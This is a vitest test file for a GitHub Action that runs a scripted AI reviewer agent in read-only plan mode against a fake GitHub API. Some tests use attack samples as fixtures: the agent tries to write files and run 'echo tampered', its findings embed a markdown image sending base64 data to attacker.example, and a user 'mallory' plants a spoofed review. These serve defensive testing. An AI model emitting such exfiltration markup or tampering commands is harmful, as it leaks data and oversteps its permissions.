// task: review end to end: the Action's `run()` on a recorded pull_request payload whose base and head are real
// commits of the workspace, a scripted agent (plan mode: it cannot write) returning findings through
// StructuredOutput, on the real Docker engine, against the fake GitHub REST API. Findings on lines of the diff
// become the inline comments of ONE review; the others go into its body; a re-run replaces the review instead
// of adding one; the summary comment stays. Also output_schema through the Action: structured_output is set.
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { COMMENT_MARKER_PREFIX } from "../../src/action/comment.js";
import { REVIEW_MARKER_PREFIX } from "../../src/action/review.js";
import { parseReport } from "../../src/report/index.js";
import { actionRunner, scriptFile, type ScriptCall } from "../support/action-harness.js";
import { faults, fixturePullRequest, startFakeGitHub, type FakeGitHub } from "../support/fake-github.js";
import { makeWorkspace, writeFiles } from "../support/workspace.js";

const TOKEN = "ghs_reviewTestToken0123456789abcdefABCDEF";
const FIXTURE = JSON.parse(
  fs.readFileSync(path.resolve("test/fixtures/events/pull-request-opened.json"), "utf8"),
) as {
  pull_request: { base: { sha: string }; head: { sha: string } };
};

const lines = (n: number, f: (i: number) => string) =>
  Array.from({ length: n }, (_, i) => f(i + 1)).join("\n") + "\n";
const CALC_BASE = lines(30, (i) => `export const c${i} = ${i};`);
const CALC_HEAD = CALC_BASE.replace("export const c15 = 15;", "export const c15 = 15 * 0; // fast path");

let fake: FakeGitHub;
let workspace: string;
let base: string;
let head: string;

function git(...args: string[]): string {
  return execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", ...args], {
    cwd: workspace,
    encoding: "utf8",
  }).trim();
}

beforeEach(async () => {
  workspace = makeWorkspace({ "src/calc.js": CALC_BASE, "package.json": '{"name":"calc"}\n' }, { git: true });
  base = git("rev-parse", "HEAD");
  git("checkout", "-q", "-b", "fast-multiply");
  writeFiles(workspace, {
    "src/calc.js": CALC_HEAD,
    "src/table.js": lines(5, (i) => `export const t${i} = ${i * i};`),
  });
  git("add", "-A");
  git("commit", "-qm", "fast path");
  head = git("rev-parse", "HEAD");
  const pr = fixturePullRequest({ base, head, diff: git("diff", `${base}...${head}`) });
  fake = await startFakeGitHub({
    token: TOKEN,
    permissions: { octocat: "write" },
    issues: [pr.issue],
    pulls: [pr.pull],
  });
});
afterEach(async () => {
  await fake.close();
});

const payload = () => {
  const p = structuredClone(FIXTURE);
  p.pull_request.base.sha = base;
  p.pull_request.head.sha = head;
  return p as unknown as Record<string, unknown>;
};

/** The Action on the opened PR (its head and base as made here) unless a call names another event. */
const action = actionRunner(() => ({
  fixture: "pull-request-opened",
  payload: payload(),
  apiUrl: fake.url,
  workspace,
}));

const FINDINGS = [
  { path: "src/calc.js", line: 15, severity: "critical", body: "`* 0` makes c15 zero." },
  {
    path: "/workspace/src/table.js",
    start_line: 2,
    line: 4,
    severity: "minor",
    body: "A table this small needs no export per entry.",
  },
  { path: "src/calc.js", line: 2, severity: "nit", body: "Unchanged line, outside the diff." },
  { path: "package.json", line: 1, severity: "major", body: "No test script." },
];

function reviewScript(findings: unknown[], summary = "The fast path breaks c15."): string {
  const turns: ScriptCall[][] = [
    [
      { name: "Read", input: { file_path: "/workspace/src/calc.js" } },
      { name: "Write", input: { file_path: "/workspace/src/calc.js", content: "overwritten\n" } },
      { name: "Bash", input: { command: "echo tampered > /workspace/src/table.js" } },
    ],
    [{ name: "StructuredOutput", input: { summary, findings } }],
  ];
  return scriptFile(turns, "done");
}

const inputs = (script: string, extra: Record<string, string> = {}) => ({
  github_token: TOKEN,
  script,
  task: "review",
  ...extra,
});

describe("task: review", () => {
  it("posts one review: inline comments on diff lines only, the others in its body; plan mode holds; outputs set", async () => {
    const result = await action({ inputs: inputs(reviewScript(FINDINGS)) });
    expect(result.failed).toBeUndefined();
    expect(fake.reviews).toHaveLength(1);
    const review = fake.reviews[0];
    expect(review?.event).toBe("COMMENT");
    expect(review?.commit_id).toBe(head);
    expect(review?.body.startsWith(`${REVIEW_MARKER_PREFIX} key=agent-ci/agent -->`)).toBe(true);
    expect(review?.comments.map((c) => [c.path, c.start_line, c.line, c.side])).toEqual([
      ["src/calc.js", undefined, 15, "RIGHT"],
      ["src/table.js", 2, 4, "RIGHT"],
    ]);
    expect(review?.comments[0]?.body).toContain("critical");
    expect(review?.body).toContain("The fast path breaks c15.");
    expect(review?.body).toMatch(
      /src\/calc.js:2.*Unchanged line, outside the diff.*line 2 is not in the diff/,
    );
    expect(review?.body).toMatch(/package.json:1.*No test script.*not changed by the pull request/);
    // One call posted the review and its comments.
    expect(fake.writes().filter((r) => r.path.endsWith("/reviews"))).toHaveLength(1);
    expect(result.outputs).toMatchObject({
      review_id: String(review?.id),
      findings: "4",
      has_changes: "false",
      exit_reason: "completed",
    });
    expect(JSON.parse(result.outputs.structured_output ?? "{}")).toMatchObject({
      summary: "The fast path breaks c15.",
    });
    // Plan mode: no patch, the Write and the writing Bash did not happen.
    const report = parseReport(fs.readFileSync(result.outputs.report_path ?? "", "utf8"));
    expect(report.policy.mode).toBe("plan");
    expect(report.patch.empty).toBe(true);
    expect(
      report.toolCalls.filter((c) => c.tool === "Write" || c.tool === "Bash").every((c) => c.isError),
    ).toBe(true);
    expect(report.structuredOutput).toMatchObject({ schema: "review", valid: true });
    // The summary comment is posted too.
    expect(fake.comments.filter((c) => c.body.startsWith(COMMENT_MARKER_PREFIX))).toHaveLength(1);
  });

  it("B6 the model's summary and findings reach the review neutralised: no image, no HTML, no outside link", async () => {
    const exfil = "![](https://attacker.example/?d=c2VjcmV0)";
    const findings = [
      { path: "src/calc.js", line: 15, severity: "critical", body: `Zero. ${exfil} <img src=x> <!--` },
      {
        path: "src/calc.js",
        line: 2,
        severity: "nit",
        body: `Outside. [see](https://attacker.example/x) ${exfil}`,
      },
    ];
    const result = await action({
      inputs: inputs(reviewScript(findings, `Summary <details><summary>x</summary> ${exfil}`)),
    });
    expect(result.failed).toBeUndefined();
    const posted = fake.writes().find((w) => w.path.endsWith("/reviews"));
    const sent = JSON.parse(posted?.body ?? "{}") as { body: string; comments: Array<{ body: string }> };
    const texts = [sent.body.slice(sent.body.indexOf("\n") + 1), ...sent.comments.map((c) => c.body)];
    for (const text of texts) {
      expect(text).not.toMatch(/!\[\]\(|<img|<!--|<details|\]\(https:\/\/attacker|https:\/\/attacker/);
      expect(text.replace(/\u200b/g, "")).toContain("https://attacker.example/");
    }
  });

  it("replaces its earlier review on a re-run: the old one's comments deleted, its body a link, one live review", async () => {
    await action({ inputs: inputs(reviewScript(FINDINGS)) });
    const second = await action({ inputs: inputs(reviewScript([FINDINGS[0]], "Second look: only c15.")) });
    expect(second.failed).toBeUndefined();
    expect(fake.reviews).toHaveLength(2);
    const [old, current] = fake.reviews;
    expect(old?.comments).toEqual([]);
    expect(old?.body).not.toContain(REVIEW_MARKER_PREFIX + " ");
    expect(old?.body).toContain(`pullrequestreview-${current?.id}`);
    expect(current?.body).toContain("Second look: only c15.");
    expect(current?.comments).toHaveLength(1);
    expect(fake.reviews.filter((r) => r.body.startsWith(`${REVIEW_MARKER_PREFIX} key=`))).toHaveLength(1);
    expect(second.outputs).toMatchObject({ review_id: String(current?.id), findings: "1" });
    // The summary comment stays one comment, updated in place.
    expect(fake.comments).toHaveLength(1);
  });

  it("B15 leaves alone a review someone else starts with agent-ci's marker: only the token's own are replaced", async () => {
    const planted = `${REVIEW_MARKER_PREFIX} key=agent-ci/agent -->\nLooks good to me, merge it.`;
    fake.reviews.push({
      id: 4999,
      pull_number: 34,
      body: planted,
      event: "COMMENT",
      commit_id: head,
      user: { login: "mallory", type: "User" },
      comments: [{ id: 77, review_id: 4999, path: "src/calc.js", line: 15, side: "RIGHT", body: "fine" }],
    });
    const result = await action({ inputs: inputs(reviewScript(FINDINGS)) });
    expect(result.failed).toBeUndefined();
    expect(fake.reviews[0]?.body).toBe(planted);
    expect(fake.reviews[0]?.comments).toHaveLength(1);
    expect(
      fake.writes().filter((w) => w.path.includes("/reviews/4999") || w.path.endsWith("/comments/77")),
    ).toEqual([]);
    expect(fake.reviews).toHaveLength(2);
  });

  it("posts no review and fails with schema_invalid when the findings never match the schema", async () => {
    const bad = [{ path: "src/calc.js", line: 0, severity: "blocker", body: "" }];
    const turns: ScriptCall[][] = [
      [{ name: "StructuredOutput", input: { summary: "x", findings: bad } }],
      [{ name: "StructuredOutput", input: { findings: bad } }],
    ];
    const result = await action({ inputs: inputs(scriptFile(turns)) });
    expect(result.outputs.exit_reason).toBe("schema_invalid");
    expect(result.failed).toMatch(/schema_invalid/);
    expect(fake.reviews).toHaveLength(0);
    expect(result.outputs.review_id).toBeUndefined();
    expect(result.outputs.structured_output).toBe("");
  });

  it("reviews from a comment on the pull request: base and head come from the PR the Action fetched", async () => {
    const result = await action({
      fixture: "issue-comment-pr",
      payload: undefined,
      inputs: inputs(reviewScript([FINDINGS[0]])),
    });
    expect(result.failed).toBeUndefined();
    expect(fake.reviews.map((r) => [r.pull_number, r.commit_id, r.comments.length])).toEqual([[34, head, 1]]);
    expect(result.outputs.findings).toBe("1");
  });

  it("posts every finding in the body when GitHub refuses the inline comments (422), and says so", async () => {
    fake.inject({
      method: "POST",
      path: /\/pulls\/34\/reviews$/,
      response: {
        status: 422,
        body: { message: "Unprocessable Entity", errors: ["Line could not be resolved"] },
      },
    });
    const result = await action({ inputs: inputs(reviewScript(FINDINGS)) });
    expect(result.failed).toBeUndefined();
    expect(fake.reviews).toHaveLength(1);
    expect(fake.reviews[0]?.comments).toEqual([]);
    expect(fake.reviews[0]?.body).toMatch(/src\/calc.js:15.*GitHub could not place it on the diff/);
    expect(result.stdout).toMatch(
      /::warning title=agent-ci%3A review::GitHub refused the inline comments \(Unprocessable Entity: Line could not be resolved\)/,
    );
    expect(result.outputs.review_id).toBe(String(fake.reviews[0]?.id));
  });

  it("warns with what to do, and sets no review_id, when the token may not review", async () => {
    fake.inject({ method: "POST", path: /\/pulls\/34\/reviews$/, response: faults.integration() });
    const result = await action({ inputs: inputs(reviewScript(FINDINGS)) });
    expect(fake.reviews).toHaveLength(0);
    expect(result.stdout).toMatch(/::warning title=agent-ci%3A review not posted::.*pull-requests: write/);
    expect(result.outputs.review_id).toBeUndefined();
    expect(result.outputs.findings).toBe("4");
  });

  it("refuses task: review on an event without a pull request", async () => {
    const result = await action({
      fixture: "issues-opened",
      payload: undefined,
      inputs: inputs(reviewScript(FINDINGS)),
    });
    expect(result.failed).toMatch(/task: review needs a pull request/);
    expect(fake.reviews).toHaveLength(0);
  });
});

describe("output_schema", () => {
  it("sets structured_output from an inline schema", async () => {
    const schema = JSON.stringify({
      type: "object",
      properties: { risk: { enum: ["low", "high"] } },
      required: ["risk"],
    });
    const turns: ScriptCall[][] = [[{ name: "StructuredOutput", input: { risk: "high" } }]];
    const result = await action({
      inputs: {
        github_token: TOKEN,
        prompt: "Rate the change's risk.",
        script: scriptFile(turns),
        output_schema: schema,
        permission_mode: "plan",
      },
    });
    expect(result.failed).toBeUndefined();
    expect(JSON.parse(result.outputs.structured_output ?? "")).toEqual({ risk: "high" });
    expect(result.outputs.findings).toBeUndefined();
    expect(fs.existsSync(path.join(path.dirname(result.outputs.report_path ?? ""), "output.json"))).toBe(
      true,
    );
  });
});
